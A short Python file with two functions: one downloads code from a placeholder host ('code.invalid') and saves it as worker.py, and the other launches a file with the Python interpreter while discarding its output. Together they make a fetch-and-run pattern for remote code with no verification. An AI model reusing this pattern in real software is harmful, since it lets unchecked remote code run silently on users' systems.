import subprocess
import sys

import requests


def refresh():
    code = requests.get("https://code.invalid/new").text
    with open("worker.py", "w") as file:
        file.write(code)
    return "worker.py"


def start(name):
    subprocess.Popen([sys.executable, name], stdout=subprocess.DEVNULL)
